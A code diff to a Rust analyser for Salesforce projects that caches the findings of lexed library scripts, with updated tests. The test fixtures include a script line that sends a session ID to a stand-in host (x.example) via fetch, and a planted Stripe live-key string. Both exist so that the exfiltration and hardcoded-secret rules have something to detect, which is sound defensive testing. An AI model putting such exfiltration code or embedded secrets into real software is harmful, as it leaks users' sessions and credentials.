@@ -12,8 +12,9 @@
 //! before use: a tree must fit its text, declarations must point into it, findings must name
 //! the file and fit it. A wrong entry is a miss.
 //!
-//! Metadata a lint reads, JSON and library scripts are not kept: their documents are read by
-//! the cross-file checks, and parsing or lexing them costs less than decoding would. A script
+//! Metadata a lint reads and JSON are not kept: their documents are read by the cross-file
+//! checks, and parsing them costs less than decoding would. A library script keeps the
+//! results of its lexing, which the cross-file pass makes. A script
 //! where a data flow may start keeps its results but not its tree, which the script analysis
 //! parses again only when some Apex method returns a source.
 
@@ -43,6 +44,9 @@ enum Kept {
     /// [`FlatTree::to_bytes`].
     Apex(#[serde(with = "serde_bytes")] Vec<u8>),
     Checked,
+    /// A library script: its results were made after parsing, by the cross-file pass's
+    /// lexing ([`FileMemo::record_lexed`]).
+    Lexed,
     Text,
     WellFormed,
     Failed,
@@ -226,9 +230,7 @@ impl FileMemo {
 
     /// Whether a file's results may be kept here: Apex, scripts, and metadata of no type a
     /// lint reads (most of it only checked to be well-formed: translations, layouts, class
-    /// companions). A library script is lexed, never stored ([`Memo::record`] skips
-    /// [`Parsed::Lexed`]), so looking it up only misses: telling one apart again here would
-    /// read every static resource twice more.
+    /// companions), and library scripts, whose results [`FileMemo::record_lexed`] stores.
     fn keeps(file: &SourceFile) -> bool {
         match file.kind {
             FileKind::Apex | FileKind::JavaScript => true,
@@ -249,6 +251,7 @@ fn decode(entry: Entry, id: FileId, file: &SourceFile) -> Option<Recalled<Visite
             (Parsed::Apex(tree), nodes)
         }
         Kept::Checked => (Parsed::Checked, 0),
+        Kept::Lexed => (Parsed::Lexed, 0),
         Kept::Text => (Parsed::Text, 0),
         Kept::WellFormed => (Parsed::WellFormed, 0),
         Kept::Failed => (Parsed::Failed, 0),
@@ -316,6 +319,43 @@ fn decode(entry: Entry, id: FileId, file: &SourceFile) -> Option<Recalled<Visite
     })
 }
 
+impl FileMemo {
+    /// Stores the findings and directives of a library script (lexed, see
+    /// [`crate::syntax::js_lex`]), which the cross-file pass made, unless it was recalled.
+    pub(crate) fn record_lexed(&self, id: FileId, file: &SourceFile, findings: &[Finding], directives: &[Directive]) {
+        if matches!(file.parsed, Parsed::Lexed) {
+            self.store(id, file, &None, Kept::Lexed, findings, directives, None);
+        }
+    }
+
+    /// Sets file `id`'s slot to a new entry, if [`Memo::recall`] gave it a key and left it empty.
+    #[allow(clippy::too_many_arguments)]
+    fn store(
+        &self,
+        id: FileId,
+        file: &SourceFile,
+        problem: &Problem,
+        kept: Kept,
+        findings: &[Finding],
+        directives: &[Directive],
+        declared: Option<&Decls>,
+    ) {
+        let entry = EntryOut {
+            file: id,
+            problem: problem.as_ref().map(|(r, o, m)| (*r, *o, m.as_str())),
+            kept,
+            findings: findings.iter().map(Stored::from_finding).collect(),
+            directives,
+            decls: declared,
+            field_reads: &file.field_reads,
+        };
+        let key = self.keys.get(id).and_then(OnceLock::get).copied();
+        if let (Some(slot), Some(key), Ok(bytes)) = (self.slots.get(id), key, postcard::to_stdvec(&entry)) {
+            let _ = slot.set(Slot::New(key, bytes));
+        }
+    }
+}
+
 impl Memo<Visited, Decls> for FileMemo {
     fn recall(&self, id: FileId, file: &SourceFile, variant: Variant) -> Option<Recalled<Visited, Decls>> {
         if !Self::keeps(file) {
@@ -357,26 +397,15 @@ impl Memo<Visited, Decls> for FileMemo {
             Parsed::Text => Kept::Text,
             Parsed::WellFormed => Kept::WellFormed,
             Parsed::Failed => Kept::Failed,
-            // A document with comments (suppressions): its checks read it.
+            // A document with comments (suppressions): its checks read it. A library's
+            // results come later ([`FileMemo::record_lexed`]).
             Parsed::Xml(_) | Parsed::Json(_) | Parsed::Lexed => return,
         };
         let (findings, directives) = match visited.and_then(|v| v.as_deref()) {
-            Some((f, d)) => (f.iter().map(Stored::from_finding).collect(), d.as_slice()),
-            None => (Vec::new(), &[][..]),
+            Some((f, d)) => (f.as_slice(), d.as_slice()),
+            None => (&[][..], &[][..]),
         };
-        let entry = EntryOut {
-            file: id,
-            problem: problem.as_ref().map(|(r, o, m)| (*r, *o, m.as_str())),
-            kept,
-            findings,
-            directives,
-            decls: declared,
-            field_reads: &file.field_reads,
-        };
-        let key = self.keys.get(id).and_then(OnceLock::get).copied();
-        if let (Some(slot), Some(key), Ok(bytes)) = (self.slots.get(id), key, postcard::to_stdvec(&entry)) {
-            let _ = slot.set(Slot::New(key, bytes));
-        }
+        self.store(id, file, problem, kept, findings, directives, declared);
     }
 }
 
@@ -432,6 +461,11 @@ mod tests {
                 "force-app/main/default/lwc/w/w.js",
                 "import s from '@salesforce/apex/A.s';\nexport default class W { async go() { fetch('https://x.example/?' + await s()); } }\n",
             ),
+            // A library (its banner says so): lexed after parsing, its results stored then.
+            (
+                "force-app/main/default/staticresources/vendor/lib.js",
+                "/*! lib */\nconst stripeKey = 'sk_live_51HqLyjWDarjtT1zdp7dcQ9';\n",
+            ),
         ])
         .expect("project");
         let root = project.path().to_path_buf();
@@ -443,9 +477,15 @@ mod tests {
         };
         let c = Cache::new(root.join(cache::DIR), &root, &[], "memo test");
         let (first, recalled, stored) = scan_with(&req, &c, false);
-        assert_eq!((recalled, stored), (0, 5), "a cold cache parses every file it may keep");
+        assert_eq!((recalled, stored), (0, 6), "a cold cache parses every file it may keep");
         assert_eq!(first, scan(&req).expect("scan").findings);
         assert!(first.iter().any(|f| f.rule == "session-id-to-external"), "{first:?}");
+        let in_library = |fs: &[Finding]| {
+            fs.iter()
+                .filter(|f| f.rule == "hardcoded-secret" && f.message.contains("Stripe"))
+                .count()
+        };
+        assert_eq!(in_library(&first), 1, "{first:?}");
 
         // The helper stops returning the session ID: the flow through A and the script ends,
         // though neither A nor the script changed.
@@ -455,14 +495,15 @@ mod tests {
         )
         .expect("edit");
         let (second, recalled, stored) = scan_with(&req, &c, false);
-        assert_eq!((recalled, stored), (4, 1));
+        assert_eq!((recalled, stored), (5, 1));
         assert_eq!(second, scan(&req).expect("scan").findings);
+        assert_eq!(in_library(&second), 1, "the library's finding is recalled: {second:?}");
         assert!(!second.iter().any(|f| f.rule.starts_with("session-")), "{second:?}");
 
         // And back: the stored entry of the first text serves again, the flows come back.
         std::fs::write(root.join(CLASSES).join("B.cls"), helper).expect("edit");
         let (third, recalled, _) = scan_with(&req, &c, false);
         assert_eq!(third, first);
-        assert!(recalled >= 4, "{recalled}");
+        assert!(recalled >= 5, "{recalled}");
     }
 }
